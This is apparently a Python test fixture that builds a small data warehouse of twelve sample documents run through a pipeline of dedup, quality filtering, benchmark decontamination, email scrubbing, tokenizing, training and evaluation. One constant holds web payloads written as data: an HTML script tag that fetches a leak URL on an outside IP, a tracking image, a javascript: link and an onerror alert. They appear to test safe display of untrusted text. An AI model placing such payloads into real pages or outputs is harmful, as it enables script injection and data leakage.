"""A warehouse of a dozen documents, written with the real writers: every table has rows, and every kind of end is there."""

from __future__ import annotations

import hashlib
from dataclasses import dataclass

import pyarrow as pa

from pipelines.contract.manifest import Manifest, step_key
from pipelines.contract.parts import PartWriter, tables_of
from pipelines.contract.schema import TABLES
from pipelines.contract.warehouse import Warehouse

HOSTILE = (
    "<script>document.title = 'owned'; fetch('http://203.0.113.9/leak')</script> ![x](http://203.0.113.9/pixel.png) "
    "[link](javascript:alert(1)) <img src=x onerror=alert(1)> **bold** :red[paint] $\\frac{1}{2}$ \x1b[31mred\x1b[0m end."
)
QUESTION = "what is the name of the river that runs through the old town of bern in switzerland"
EMAIL = "zoë.kim@example.org"
STEPS = ("ingest", "clean", "measure", "judge", "dedup", "split", "decontaminate", "scrub", "tokenize", "publish")


@dataclass(frozen=True)
class Doc:
    """A document: its text, where it ended, and what was found in it."""

    key: str
    text: str
    source: str = "pages"
    end: tuple[str, str, str] | None = None  # step, fate, reason
    pii: str = ""
    item: str = ""
    action: str = ""
    split: str = "train"

    @property
    def doc_id(self) -> str:
        return hashlib.blake2b(f"{self.source}/{self.key}".encode(), digest_size=16).hexdigest()

    @property
    def num_bytes(self) -> int:
        return len(self.text.encode())

    def span(self, found: str) -> tuple[int, int]:
        start = self.text.encode().index(found.encode())
        return start, start + len(found.encode())

    @property
    def final(self) -> str:
        text = self.text.replace(self.pii, "<EMAIL_ADDRESS>") if self.pii else self.text
        return text.replace(self.item, "") if self.action == "cut" else text


PROSE = "The mill stands where the brook bends. Its wheel turned until the war, and the miller's house is a school now. "
DOCS = (
    Doc("mill", PROSE * 3),
    Doc("mill-copy", PROSE * 3, end=("dedup", "dropped", "exact_duplicate")),
    Doc("mill-near", PROSE * 3 + "Visitors are welcome.", end=("dedup", "dropped", "near_duplicate")),
    Doc("letter", f"Dear reader, write to {EMAIL} for the archive — it holds 1 200 letters. " + PROSE, pii=EMAIL),
    Doc("hostile", HOSTILE + " " + PROSE),
    Doc("short", "Click here.", end=("judge", "dropped", "too_few_words")),
    Doc("symbols", "### ### ### buy now ### ###", end=("judge", "dropped", "too_many_hashes")),
    Doc("quiz-drop", f"Quiz night! {QUESTION}? The answer is the Aare. Call Ann Lee on 030 1234567.",
        end=("decontaminate", "dropped", "contaminated"), item=QUESTION, action="drop"),
    Doc("quiz-cut", f"{PROSE}Ünder the bridge they ask: {QUESTION}, and nobody knows. {PROSE}", item=QUESTION, action="cut"),
    Doc("held", "A chapter about bees, honey and the patient work of summer. " * 3, source="books", split="heldout"),
    Doc("bees", "Another chapter on hives: how a swarm chooses where to live, and when it leaves. " * 3, source="books"),
    Doc("broken", "\ufffd\ufffd", source="books", end=("clean", "quarantined", "not_utf8")),
)  # fmt: skip


def build(root, scrub_params=None) -> Warehouse:
    """Writes the warehouse and publishes one version of it; ``scrub_params`` is what the manifest of scrub says of its detectors."""
    warehouse = Warehouse(root)
    with warehouse.writing():
        warehouse.note_run("20260101-tiny", "started", {"engine": "local", "config_sha256": "c" * 64, "code_version": "0.1.0"})
        keys = {}
        for step in (*STEPS, "train", "eval:e1"):
            rows = _rows(step)
            schemas = {name: _FAMILIES.get(name) or TABLES[name].schema for name in rows}
            with PartWriter(warehouse.attempt(step), schemas) as writer:
                for name, found in rows.items():
                    writer.write({name: pa.Table.from_pylist(found, schema=schemas[name])})
            keys[step] = step_key(step, {}, {}, {})
            params = scrub_params if step == "scrub" and scrub_params else {}
            manifest = Manifest(step=step, key=keys[step], params=params, parts={}, inputs={}, tables={})
            warehouse.publish(manifest, tables_of(writer.files, schemas))
        warehouse.set_version(keys)
        warehouse.note_run("20260101-tiny", "ended", {"state": "finished"})
    return warehouse


def alive_before(step: str) -> list[Doc]:
    return [d for d in DOCS if d.end is None or STEPS.index(d.end[0]) >= STEPS.index(step)]


def alive_after(step: str) -> list[Doc]:
    return [d for d in DOCS if d.end is None or STEPS.index(d.end[0]) > STEPS.index(step)]


def _rows(step: str) -> dict[str, list[dict]]:
    if step == "train":
        return _train()
    if step == "eval:e1":
        return _eval()
    rows = {"ledger": [_account(step)], "survivors": [{"doc_id": d.doc_id, "num_bytes": _size(d, step)} for d in alive_after(step)]}
    rows |= _OWN.get(step, dict)()
    ended = [d for d in DOCS if d.end and d.end[0] == step]
    if step == "publish":
        rows["fates"] = [
            {
                "doc_id": d.doc_id,
                "fate": d.end[1] if d.end else "kept",
                "step": d.end[0] if d.end else "publish",
                "reason": d.end[2] if d.end else None,
            }
            for d in DOCS
        ]
    if any(d.end[1] == "quarantined" for d in ended):
        rows["quarantine"] = [
            {"step": step, "source": d.source, "doc_id": d.doc_id, "origin_file": f"{d.key}.txt", "origin_offset": 0, "num_bytes": d.num_bytes,
             "error": d.end[2], "message": "byte 0 is not UTF-8"} for d in ended
        ]  # fmt: skip
    return rows


def _size(doc: Doc, step: str) -> int:
    size = doc.num_bytes
    if doc.action == "cut" and STEPS.index(step) >= STEPS.index("decontaminate"):
        size -= len(doc.item.encode())
    if doc.pii and STEPS.index(step) >= STEPS.index("scrub"):
        size += len(b"<EMAIL_ADDRESS>") - len(doc.pii.encode())
    return size


def _account(step: str) -> dict:
    before, after = alive_before(step), alive_after(step)
    earlier = STEPS[max(0, STEPS.index(step) - 1)]
    ended = {fate: [d for d in before if d not in after and d.end[1] == fate] for fate in ("dropped", "quarantined")}
    cut = sum(len(d.item.encode()) for d in after if d.action == "cut") if step == "decontaminate" else 0
    taken = sum(len(d.pii.encode()) for d in after if d.pii) if step == "scrub" else 0
    added = sum(len(b"<EMAIL_ADDRESS>") for d in after if d.pii) if step == "scrub" else 0
    return {
        "step": step, "docs_in": len(before), "docs_kept": len(after),
        "docs_dropped": len(ended["dropped"]), "docs_quarantined": len(ended["quarantined"]),
        "bytes_in": sum(_size(d, earlier) for d in before), "bytes_kept": sum(_size(d, step) for d in after), "bytes_cut": cut + taken,
        "bytes_added": added, "bytes_dropped": sum(_size(d, earlier) for d in ended["dropped"]),
        "bytes_quarantined": sum(_size(d, earlier) for d in ended["quarantined"]), "cpu_s": 0.5, "wall_s": 0.7, "peak_rss_bytes": 1 << 28,
    }  # fmt: skip


def _documents() -> dict[str, list[dict]]:
    return {"documents": [
        {"doc_id": d.doc_id, "source": d.source, "kind": "page", "record_key": f"people/{d.key}", "origin": "jane-doe.example.org",
         "url": f"https://jane-doe.example.org/{d.key}", "license": "CC0-1.0", "created_at": None, "text": d.text, "num_bytes": d.num_bytes,
         "content_sha256": hashlib.sha256(d.text.encode()).hexdigest(), "origin_file": "dump.jsonl", "origin_codec": "plain",
         "origin_offset": i * 100, "origin_length": 100} for i, d in enumerate(DOCS)
    ]}  # fmt: skip


def _texts() -> dict[str, list[dict]]:
    return {"texts": [
        {"doc_id": d.doc_id, "text": d.text, "language": "en", "num_bytes": d.num_bytes, "sha256": hashlib.sha256(d.text.encode()).hexdigest(),
         "source": d.source, "kind": "page", "origin": "jane-doe.example.org", "url": f"https://jane-doe.example.org/{d.key}", "license": "CC0-1.0"}
        for d in alive_after("clean")
    ]}  # fmt: skip


_FAMILIES = {
    "signals_lengths": pa.schema([("doc_id", pa.string()), ("word_count", pa.int32()), ("mean_word_length", pa.float64())]),
    "signals_symbols": pa.schema([("doc_id", pa.string()), ("hash_ratio", pa.float64()), ("ends_with_stop", pa.bool_())]),
}


def _signals() -> dict[str, list[dict]]:
    measured = [(d, d.text.split()) for d in alive_after("measure")]
    return {
        "signals_lengths": [{"doc_id": d.doc_id, "word_count": len(w), "mean_word_length": sum(map(len, w)) / len(w)} for d, w in measured],
        "signals_symbols": [
            {"doc_id": d.doc_id, "hash_ratio": d.text.count("#") / len(w), "ends_with_stop": d.text.strip().endswith(".")} for d, w in measured
        ],
    }


def _verdict(doc: Doc, step: str, rule: str, reason: str, value: float, threshold: float) -> dict:  # noqa: PLR0917 - the order of the table
    return {"doc_id": doc.doc_id, "step": step, "rule": rule, "reason": reason, "value": value, "threshold": threshold}


def _verdicts() -> dict[str, list[dict]]:
    short, symbols = (_find(k) for k in ("short", "symbols"))
    return {"verdicts": [
        _verdict(short, "judge", "gopher.word_count_min", "too_few_words", 2, 50),
        _verdict(symbols, "judge", "gopher.hash_ratio_max", "too_many_hashes", 15 / 7, 0.1),
        _verdict(symbols, "judge", "gopher.word_count_min", "too_few_words", 7, 50),
    ]}  # fmt: skip


def _duplicates() -> dict[str, list[dict]]:
    kept, copy, near = (_find(k) for k in ("mill", "mill-copy", "mill-near"))
    cluster = min(d.doc_id for d in (kept, copy, near))
    pairs = [(copy, "exact", 1.0), (near, "near", 0.9375)]
    return {
        "duplicates": [{"doc_id": d.doc_id, "kept_doc_id": kept.doc_id, "cluster_id": cluster, "kind": k, "jaccard": j} for d, k, j in pairs],
        "clusters": [{"doc_id": d.doc_id, "cluster_id": cluster} for d in (kept, copy, near)],
        "verdicts": [_verdict(d, "dedup", f"dedup.{k}", f"{k}_duplicate", j, 0.8) for d, k, j in pairs],
    }


def _splits() -> dict[str, list[dict]]:
    return {"splits": [{"doc_id": d.doc_id, "split": d.split} for d in alive_after("split")]}


def _contamination() -> dict[str, list[dict]]:
    found = [d for d in DOCS if d.item]
    item = {"benchmark": "rivers", "item_id": "rivers-7", "part": "question"}
    spare = {
        "benchmark": "rivers",
        "item_id": "rivers-8",
        "part": "question",
        "role": "input",
        "text": "who built the clock tower",
        "num_words": 5,
        "match_whole": True,
        "has_answer": True,
    }
    asked = {**item, "role": "input", "text": f"{QUESTION}?", "num_words": len(QUESTION.split()), "match_whole": False, "has_answer": True}
    changed = "the mill stands where a brook bends and its wheel turned"  # a word of it stands otherwise in the document
    mill = next(d for d in DOCS if d.key == "mill")
    near = {"benchmark": "rivers", "item_id": "rivers-9", "part": "answer"}
    return {
        "benchmark_items": [
            asked, spare,
            {**near, "role": "label", "text": changed, "num_words": 11, "match_whole": False, "has_answer": True},
        ],
        "item_statuses": [
            {"benchmark": "rivers", "item_id": f"rivers-{i}", "status": status, "num_parts": 1, "num_parts_checked": 1}
            for i, status in ((7, "contaminated"), (8, "clean"), (9, "inexact"))
        ],
        "contamination": [
            {"doc_id": d.doc_id, **item, "tier": "exact", "num_ngrams": len(QUESTION.split()) - 12, "coverage": 1.0, "num_edits": 0,
             "similarity": None, "doc_start": d.span(d.item)[0],
             "doc_end": d.span(d.item)[1], "item_start": 0, "item_end": len(QUESTION), "action": d.action, "reason": None}
            for d in found
        ] + [
            {"doc_id": mill.doc_id, **near, "tier": "inexact", "num_ngrams": 1, "coverage": 10 / 11, "num_edits": 1, "similarity": None,
             "doc_start": 0, "doc_end": len("The mill stands where the brook bends. Its wheel turned"), "item_start": 0, "item_end": len(changed),
             "action": "flag", "reason": "inexact"},
        ],
        "boilerplate": [{**item, "item_start": 0, "item_end": len(QUESTION), "num_documents": 12}],
        "edits": [
            {"doc_id": d.doc_id, "from_version": "clean", "start": d.span(d.item)[0], "end": d.span(d.item)[1],
             "new_length": 0, "step": "decontaminate",
             "cause": "rivers"} for d in found if d.action == "cut"
        ],
        "verdicts": [_verdict(d, "decontaminate", "rivers", "contaminated", 1.0, 0.0) for d in found if d.action == "drop"],
    }  # fmt: skip


def _scrubbed() -> dict[str, list[dict]]:
    found = [d for d in DOCS if d.pii]
    return {
        "pii_spans": [
            {"doc_id": d.doc_id, "entity": "EMAIL_ADDRESS", "start": d.span(d.pii)[0], "end": d.span(d.pii)[1], "score": 1.0,
             "recognizer": "patterns.email", "rule": None, "policy": "placeholder", "replacement": "<EMAIL_ADDRESS>"} for d in found
        ],
        "pii_passed_over": [
            {"doc_id": d.doc_id, "entity": "PHONE_NUMBER", "start": 0, "end": 4, "score": 0.4, "recognizer": "patterns.phone",
             "rule": "phone_number.year_range"} for d in found
        ],
        "edits": [
            {"doc_id": d.doc_id, "from_version": "clean", "start": d.span(d.pii)[0], "end": d.span(d.pii)[1], "new_length": 15, "step": "scrub",
             "cause": "EMAIL_ADDRESS"} for d in found
        ],
    }  # fmt: skip


def _shards() -> dict[str, list[dict]]:
    return {"shards": [
        {"doc_id": d.doc_id, "source": d.source, "split": d.split, "input_ids": list(d.final.encode()), "num_tokens": len(d.final.encode())}
        for d in alive_after("tokenize")
    ]}  # fmt: skip


def _corpus() -> dict[str, list[dict]]:
    return {"corpus": [
        {"doc_id": d.doc_id, "text": d.final, "source": d.source, "kind": "page", "language": "en", "url": f"https://jane-doe.example.org/{d.key}",
         "license": "CC0-1.0", "split": d.split} for d in alive_after("publish")
    ]}  # fmt: skip


def _train() -> dict[str, list[dict]]:
    steps = [
        {"train_id": "t1", "step": i, "source": source, "loss_nats": 5.0 / i + shift, "num_tokens": 512, "learning_rate": 1e-3, "wall_s": float(i)}
        for i in range(1, 21) for source, shift in ((None, 0.0), ("books", 0.2), ("pages", -0.1))
    ]  # fmt: skip
    saved = {
        "checkpoint_id": "ck20",
        "train_id": "t1",
        "step": 20,
        "loss_nats": 0.25,
        "num_tokens": 10240,
        "plan_sha256": "p" * 64,
        "path": "data/train/x",
    }
    return {"train_steps": steps, "checkpoints": [saved]}


def _eval() -> dict[str, list[dict]]:
    items = [
        ("rivers-7", "the Aare", "the Aare", 1.0, "contaminated"),
        ("rivers-8", HOSTILE, "a mason", 0.0, "clean"),
        ("rivers-9", "Bern", "Bern", 1.0, "clean"),
    ]
    base = {"eval_id": "e1", "model": "tiny", "task": "rivers", "metric": "exact_match"}
    scores = [("all", 2 / 3, 0.33, 0.05, 0.97, 3), ("clean", 0.5, 0.5, 0.03, 0.97, 2), ("contaminated", 1.0, None, 0.2, 1.0, 1)]
    return {
        "predictions": [
            {**base, "item_id": i, "prompt_sha256": "a" * 64, "response": r, "extracted": r, "target": t, "score": s, "weight": 1.0, "status": status}
            for i, r, t, s, status in items
        ],
        "scores": [
            {**base, "subset": subset, "value": v, "stderr": e, "ci_low": low, "ci_high": high, "num_items": n}
            for subset, v, e, low, high, n in scores
        ],
    }


def _find(key: str) -> Doc:
    return next(d for d in DOCS if d.key == key)


_OWN = {
    "ingest": _documents, "clean": _texts, "measure": _signals, "judge": _verdicts, "dedup": _duplicates, "split": _splits,
    "decontaminate": _contamination, "scrub": _scrubbed, "tokenize": _shards, "publish": _corpus,
}  # fmt: skip
